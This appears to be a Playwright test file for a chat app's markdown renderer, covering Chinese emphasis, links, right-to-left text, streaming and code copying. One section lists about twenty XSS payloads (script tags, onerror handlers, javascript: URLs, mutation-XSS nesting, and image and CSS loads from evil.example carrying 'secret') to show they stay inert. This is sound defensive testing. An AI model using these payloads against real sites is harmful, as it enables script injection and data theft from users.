"""What the model writes as markdown, and what nobody may make of it."""

import json
import random
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.api.conftest import serving
from tests.browser.conftest import DESKTOP, Chat, Open
from tests.browser.scripted import Gate, Script, delta, failed, finish, problem, thought
from tests.conftest import FakeModel

if TYPE_CHECKING:
    from playwright.sync_api import Browser

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
expect = sync_api.expect
pytestmark = pytest.mark.browser

RENDER = """async ({module, sources}) => {
    const { blocks, elements } = await import(module);
    return sources.map((source) => {
        const box = document.createElement("div");
        box.append(elements(blocks(source)));
        return box.innerHTML.trim();
    });
}"""


def rendered(chat: Chat, *sources: str) -> list[str]:
    """The HTML of each source, but for the direction that every block finds by itself."""
    found: list[str] = chat.page.evaluate(RENDER, {"module": chat.module("markdown.js"), "sources": sources})
    return [html.replace(' dir="auto"', "") for html in found]


# Chinese emphasis: punctuation stands right at the word.

MARKS = "。，、；：？！…—·「」『』《》〈〉【】（）“”‘’～．％"
CJK = [f"这是**重点{mark}**说明" for mark in MARKS[:28]] + [
    "含**「重点」**内容",
    "**重点：**说明",
    "* **具体：**与其说",
    "~~删除（括号）。~~继续",
    "**《红楼梦》**是小说",
    "他说*“你好。”*然后走了",
    "**注意！**不要**（例如）**这样",
    '**"引用"**后面',
    '前面**"引用"**后面',
    "这是**`码`**的",
    "他说**(括号)**的",
]
ENGLISH = {
    "**bold** and *italic*": "<p><strong>bold</strong> and <em>italic</em></p>",
    "a**b**c": "<p>a<strong>b</strong>c</p>",
    "snake_case_name": "<p>snake_case_name</p>",
    "2 * 3 * 4": "<p>2 * 3 * 4</p>",
    "**not bold **": "<p>**not bold **</p>",
    "~~gone~~ here": "<p><del>gone</del> here</p>",
    '**"quoted."** Next': '<p><strong>"quoted."</strong> Next</p>',
    '**a."**b': '<p>**a."**b</p>',
    '*see "**重点**" ok*': '<p><em>see "<strong>重点</strong>" ok</em></p>',
}


def test_chinese_emphasis(chat: Chat) -> None:
    assert len(CJK) == 39
    for source, html in zip(CJK, rendered(chat, *CJK), strict=True):
        assert "**" not in html and "~~" not in html, f"{source} became {html}"
        assert any(tag in html for tag in ("<strong>", "<em>", "<del>")), f"{source} became {html}"


def test_english_emphasis_is_as_ever(chat: Chat) -> None:
    assert dict(zip(ENGLISH, rendered(chat, *ENGLISH), strict=True)) == ENGLISH


RANGES = ["最高27~28℃，最低14~17℃", "10~20元，人数：3~5人", "a~b~c", "H~2~O", "~5 min and ~10 min"]
ADDRESSES = {
    "见https://example.org/a，然后（https://example.org/b）。": ["https://example.org/a", "https://example.org/b"],
    "https://example.com/路径，后面。": ["https://example.com/%E8%B7%AF%E5%BE%84"],
    "“https://example.org/q?a=1&b=2”和 www.example.org。": ["https://example.org/q?a=1&b=2", "http://www.example.org"],
    "see https://example.org/a_(b), then": ["https://example.org/a_(b)"],
    "[名](https://example.org/，)": ["https://example.org/%EF%BC%8C"],
}


def test_only_two_tildes_strike(chat: Chat) -> None:
    for source, html in zip(RANGES, rendered(chat, *RANGES), strict=True):
        assert html == f"<p>{source}</p>"
    (struck,) = rendered(chat, "~~删除~~，27~28 ~~gone~~")
    assert struck == "<p><del>删除</del>，27~28 <del>gone</del></p>"


def test_a_bare_address_ends_before_chinese_punctuation(chat: Chat) -> None:
    for wanted, html in zip(ADDRESSES.values(), rendered(chat, *ADDRESSES), strict=True):
        found = re.findall(r'href="([^"]+)"', html)
        assert [address.replace("&amp;", "&") for address in found] == wanted, html


def test_blocks(chat: Chat) -> None:
    sources = {
        "# One": "<h3>One</h3>",
        "## Two": "<h3>Two</h3>",
        "### Three": "<h4>Three</h4>",
        "###### Six": "<h6>Six</h6>",
        "a\nb": "<p>a<br>b</p>",
        "- [x] done\n- [ ] open": '<ul>\n<li><input checked="" disabled="" type="checkbox" aria-label="done"> done'
        '</li>\n<li><input disabled="" type="checkbox" aria-label="open"> open</li>\n</ul>',
        "|a|b|\n|-|-:|\n|x<br>y|2|": "x<br>y",
        "![cat](https://evil.example/?q=secret)": ">cat</a>",
        "[x](javascript:alert(1))": "<p><a>x</a></p>",
        "[x](data:text/html,hi)": "<p><a>x</a></p>",
        "<b>x</b>": "<p>&lt;b&gt;x&lt;/b&gt;</p>",
        "<pre><b>**x**": "&lt;pre&gt;&lt;b&gt;",
        "5 < 6 && 7 > 3": "<p>5 &lt; 6 &amp;&amp; 7 &gt; 3</p>",
    }
    for (source, wanted), html in zip(sources.items(), rendered(chat, *sources), strict=True):
        assert wanted in html.replace("\n\n", "\n"), f"{source} became {html}"
    (table,) = rendered(chat, "|a|b|\n|-|-:|\n|1|2|")
    assert '<td align="right">2</td>' in table


ARABIC = "مرحبا، هذا نص (test) عربي."


def test_right_to_left_text_stands_right_to_left(chat: Chat, script: Script) -> None:
    """Each block by its own first letter, what is typed and titles as well; code never."""
    script.will_say(f"{ARABIC}\n\n- {ARABIC}\n- code\n\nEnglish.\n\n```\n{ARABIC}\n```")
    chat.ask(f"{ARABIC}")
    expect(chat.answers.last.locator(".figures")).to_be_attached()
    chat.input.fill(ARABIC)

    def direction(selector: str) -> str:
        return str(chat.page.locator(selector).first.evaluate("node => getComputedStyle(node).direction"))

    for selector in (".answer .text > p", ".answer .text > ul", ".question .text", "#title", ".row-title", "#input"):
        assert direction(selector) == "rtl", selector
    for selector in (".answer .text > p:nth-of-type(2)", ".answer .code", ".bar", ".answer .who"):
        assert direction(selector) == "ltr", selector
    assert chat.page.locator(".answer .text > ul").evaluate("node => getComputedStyle(node).listStyleType") == "disc"


# While it streams

STREAM = """async ({module, source, cuts}) => {
    const { Body } = await import(module);
    const whole = new Body(() => {});
    whole.set(source);
    return cuts.map((pieces) => {
        const body = new Body(() => {});
        for (const piece of pieces) { body.push(piece); body.flush(); }
        body.finish();
        const [one, other] = [body, whole].map(({ element }) => element.innerHTML.replace(/>\\s+</g, "><").trim());
        return one === other ? null : [one, other];
    });
}"""
DOCUMENTS = {
    "English": (
        "Intro with **bold**.\n\n## Title\n\n- one\n- two\n  - nested `code`\n- three\n\n1. a\n\n2. b\n\n"
        "> quote\n> more\n\n---\n\nSetext\n======\n\nEnd of it."
    ),
    "Chinese": (
        "先看**重点：**说明。\n\n### 步骤\n\n1. **准备：**买菜\n2. 炒菜\n\n| 菜 | 价 |\n|---|---:|\n| 鱼 | 30 |\n"
        "| 肉 | 40 |\n\n最后*“好吃。”*完。"
    ),
    "code": (
        "Text:\n\n```python\ndef f():\n    return '**no**'\n\n\nprint(f())\n```\n\nmore\n\n```\nplain\n```\n\n"
        "    indented\n\n- in a list:\n  ```js\n  x = 1;\n  ```\n- end"
    ),
    "references": (
        "See [the guide][1] and [it][two].\n\nMore text here.\n\n[1]: https://example.org/guide\n"
        "[two]: https://example.org/2"
    ),
    "odd": (
        "**unclosed\n\n`tick\n\n| half | table\n\n<div>raw\n\n</div> * * *\n\n\ttab\n\na\\\nb  \nc\r\nd\n\n"
        "- x\n\n  more of x\n\n- y\n\n---\n\n1) one\n\n2) two\n3 no item"
    ),
}


@pytest.mark.parametrize("name", list(DOCUMENTS))
def test_any_cut_gives_the_same_page(chat: Chat, name: str) -> None:
    source = DOCUMENTS[name]
    rng = random.Random(name)
    cuts = [list(source)]
    for _ in range(40):
        at = sorted(rng.sample(range(1, len(source)), rng.randrange(1, 20)))
        cuts.append([source[a:b] for a, b in zip([0, *at], [*at, len(source)], strict=True)])
    given: dict[str, Any] = {"module": chat.module("stream.js"), "source": source, "cuts": cuts}
    for pieces, differs in zip(cuts, chat.page.evaluate(STREAM, given), strict=True):
        assert differs is None, f"cut as {pieces}"


def test_an_open_fence_shows_its_code(chat: Chat, script: Script) -> None:
    gate = Gate()
    script.will(delta("Here:\n\n```python\nprint("), gate, delta("1)\n```\n\nDone **so"), *finish())
    chat.ask("Code?")
    expect(chat.answer.locator(".code code")).to_have_text("print(")
    gate.set()
    expect(chat.answer.locator(".code code .hljs-number")).to_have_text("1")
    expect(chat.answer.locator("p").last).to_have_text("Done **so")


def test_code_is_copied_exactly(chat: Chat, script: Script) -> None:
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    source = "def f():\n\treturn '<b>&amp;'  # 中文\n\n\nf()"
    script.will_say(f"So:\n\n```python\n{source}\n```\n\nAnd `inline`.")
    chat.ask("Code?")
    expect(chat.answers.last.locator(".figures")).to_be_attached()
    chat.button("Copy code").click()
    expect(chat.button("Copied")).to_be_visible()
    assert chat.page.evaluate("navigator.clipboard.readText()") == source


def test_a_long_block_of_code_is_copied_from_wherever_it_is_read(chat: Chat, script: Script) -> None:
    lines = "\n".join(f"line_{number} = {number}" for number in range(90))
    script.will_say(f"```python\n{lines}\n```")
    chat.ask("Long")
    expect(chat.answers.last.locator(".figures")).to_be_visible()
    chat.page.locator("#list").evaluate("list => (list.scrollTop = list.scrollHeight / 2)")
    expect(chat.answers.locator(".who")).not_to_be_in_viewport()
    expect(chat.button("Copy code")).to_be_in_viewport(ratio=1)


def test_copying_works_without_the_clipboard_api(new_chat: Open, script: Script) -> None:
    """On plain http://192.168.x.x there is no clipboard API and no randomUUID."""
    chat = new_chat()
    chat.page.add_init_script(
        "Object.defineProperty(navigator, 'clipboard', { value: undefined });"
        "delete Crypto.prototype.randomUUID;"
        "window.copied = [];"
        "document.addEventListener('copy', () => copied.push(String(document.activeElement.value)));"
    )
    chat.open()
    script.will_say("Some **bold** text.")
    chat.ask("Hello")
    expect(chat.answers.last.locator(".figures")).to_be_attached()
    chat.answers.last.get_by_role("button", name="Copy").click()
    expect(chat.button("Copied")).to_be_visible()
    assert chat.page.evaluate("copied") == ["Some **bold** text."]


def test_the_plain_text_can_be_seen(chat: Chat, script: Script) -> None:
    script.will_say("Some **bold** text.")
    chat.ask("Hello")
    expect(chat.answer.locator("strong")).to_have_text("bold")
    chat.answers.last.get_by_role("button", name="More").click()
    chat.button("Show as plain text").click()
    expect(chat.answer).to_have_text("Some **bold** text.")
    chat.answers.last.get_by_role("button", name="More").click()
    chat.button("Show formatted").click()
    expect(chat.answer.locator("strong")).to_have_text("bold")


# What an attacker would write

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)><a xlink:href='javascript:alert(3)'><text>x</text></a></svg>",
    "<a href='javascript:alert(4)'>x</a> [x](javascript:alert(4)) [x](JaVaScRiPt&#58;alert(4)) <javascript:alert(4)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(5)>",
    '<form id="app"><input name="messages"></form><a id=list name=menu></a>',
    "![](http://evil.example/?q=secret) ![x](//evil.example/p.png) <img src=http://evil.example/q>",
    "<iframe srcdoc='<script>parent.alert(6)</script>'></iframe><object data=http://evil.example></object>",
    "<style>@import 'http://evil.example/css'; body { background: url(http://evil.example/bg) }</style>",
    "`<img src=x onerror=alert(7)>` **<img src=x onerror=alert(7)>** [<img src=x onerror=alert(7)>](http://a.b)",
    "```html\n<img src=x onerror=alert(8)>\n</code></pre><script>alert(8)</script>\n```",
    '```"><img src=x onerror=alert(9)>\nx\n```',
    "| <img src=x onerror=alert(10)> |\n|---|\n| <svg/onload=alert(10)> |",
    '[x]: javascript:alert(11) "<img src=x onerror=alert(11)>"\n\n[x] ![y][x]',
    "<noscript><p title='</noscript><img src=x onerror=alert(12)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(13)>'>",
    "<link rel=stylesheet href=http://evil.example/s.css><base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<button formaction=javascript:alert(14)>x</button><details open ontoggle=alert(14)>",
    "{alert(15)} ${alert(15)} {{constructor.constructor('alert(15)')()}} {n}",
    "&lt;img src=x onerror=alert(16)&gt; &#60;script&#62;alert(16)&#60;/script&#62;",
]
PLACED = """async ({module, source, inside}) => {
    const { blocks, elements } = await import(module);
    const box = document.createElement("div");
    document.body.append(box);
    box.append(elements(blocks(source)));
    await new Promise(requestAnimationFrame);
    return [...box.querySelectorAll(inside)].map((node) => node.outerHTML);
}"""
INSIDE = (
    "script, img, form, math, style, iframe, object, link, meta, base, button[formaction], [onload], [onerror], "
    "[href^='j' i]"
)


def test_an_attack_stays_text_wherever_it_comes_from(tab: Chat, script: Script) -> None:
    """As question, title, answer, thought, snippet, model's name and error: nothing runs, nothing is asked."""
    attack = "\n\n".join(ATTACKS)
    script.records.add(attack, attack, attack)
    chat = tab.open()
    chat.rows.first.locator("a").click()
    expect(chat.answers).to_have_count(1)
    script.will(thought(attack), delta(attack), *finish())
    script.will(delta("x"), failed(attack, attack))
    script.will_refuse(500, problem(ATTACKS[1], attack))
    for count in (2, 3, 4):
        chat.ask(attack)
        expect(chat.answers).to_have_count(count)
        expect(chat.button("Send")).to_be_visible()
    expect(chat.answers.last.get_by_role("alert")).to_be_visible()
    chat.page.get_by_role("searchbox").fill("alert(2)")
    expect(chat.page.locator(".snippet mark")).to_have_text("alert(2)")
    script.ready = script.ready | {"model": ATTACKS[1], "wanted": ATTACKS[0], "why": attack, "hint": attack}
    chat.page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    expect(chat.page.locator("#notice")).to_be_visible()
    inside = chat.page.locator("#messages, #conversations, #notice, #bar, #toasts").locator(INSIDE)
    expect(inside).to_have_count(0)
    assert all(url.startswith(chat.address) for url in chat.requests)


def test_an_imported_attack_stays_text(browser: "Browser", fake_model: FakeModel, tmp_path: Path) -> None:
    """Through the real server: a file with a name, a title and texts of that kind."""
    attack = "\n\n".join(ATTACKS)
    messages = [{"role": role, "content": attack} for role in ("user", "assistant")]
    file = tmp_path / f"{ATTACKS[1]}.json"
    file.write_text(json.dumps({"title": attack, "messages": messages}), encoding="utf-8")
    context = browser.new_context(**DESKTOP)
    with serving(fake_model(), tmp_path / "home") as address:
        chat = Chat(context.new_page(), address).open()
        chat.page.keyboard.press("Control+,")
        chat.page.locator("input[type=file]").set_input_files(file)
        expect(chat.page.locator(".report").first).to_contain_text("1 conversation imported.")
        chat.page.keyboard.press("Escape")
        chat.rows.first.locator("a").click()
        expect(chat.answers).to_have_count(1)
        expect(chat.page.locator("#messages, #conversations, #title, .report").locator(INSIDE)).to_have_count(0)
        chat.check()
    context.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_alone(chat: Chat, attack: str) -> None:
    """One by one, since markup may hide markup."""
    given = {"module": chat.module("markdown.js"), "source": attack, "inside": INSIDE}
    assert chat.page.evaluate(PLACED, given) == []


def test_lists_have_their_own_marks_and_wide_tables_scroll(chat: Chat, script: Script) -> None:
    """Whatever list the messages stand in; no cell is squeezed to a word a line."""
    head = "|".join(f" Column number {n} " for n in range(12))
    script.will_say(f"- one\n  - two\n    - [ ] three\n\n|{head}|\n|{'---|' * 12}\n|{head}|\n")
    chat.ask("Show it.")
    expect(chat.answer.locator("td")).to_have_count(12)
    style = "node => getComputedStyle(node).listStyleType"
    assert chat.answer.locator("ul").first.evaluate(style) == "disc"
    one, three = (chat.answer.locator("li").nth(n).bounding_box() for n in (0, 2))
    assert one and three and three["x"] - one["x"] > 24
    frame = chat.answer.locator(".table")
    assert frame.evaluate("node => node.scrollWidth > node.clientWidth && getComputedStyle(node).overflowX") == "auto"
    assert min(chat.answer.locator("td").evaluate_all("nodes => nodes.map((node) => node.clientWidth)")) > 80


def test_a_wide_table_stays_where_it_is_read_while_it_grows(chat: Chat, script: Script) -> None:
    row = "|" + "|".join(f" cell number {n} " for n in range(12)) + "|\n"
    gate = Gate()
    script.will(delta(row + "|---" * 12 + "|\n" + row), gate, delta(row), *finish())
    chat.ask("Show it.")
    expect(chat.answer.locator("tbody tr")).to_have_count(1)
    frame = chat.answer.locator(".table")
    frame.evaluate("node => (node.scrollLeft = 200)")
    gate.set()
    expect(chat.answer.locator("tbody tr")).to_have_count(2)
    assert frame.evaluate("node => node.scrollLeft") == 200
